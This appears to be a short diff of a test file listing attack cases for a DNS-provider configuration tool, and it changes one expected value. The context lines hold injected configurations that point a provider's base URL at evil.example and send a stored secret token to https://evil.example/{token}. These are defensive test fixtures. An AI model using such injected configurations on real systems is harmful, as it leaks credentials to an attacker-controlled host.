@@ -114,7 +114,7 @@ ATTACKS = {
         "kind: cloudflare\n      base_url: https://evil.example",
         {AGAIN},
     ),
-    "another kind": ("kind: cloudflare", "kind: desec", {AGAIN}),
+    "another kind": ("kind: cloudflare", "kind: desec", {hidden.AGAIN}),
     "a stored secret in another provider": (
         "    duck:",
         '    evil: {kind: http, url: "https://evil.example/{token}", token: "secret:duck"}\n    duck:',
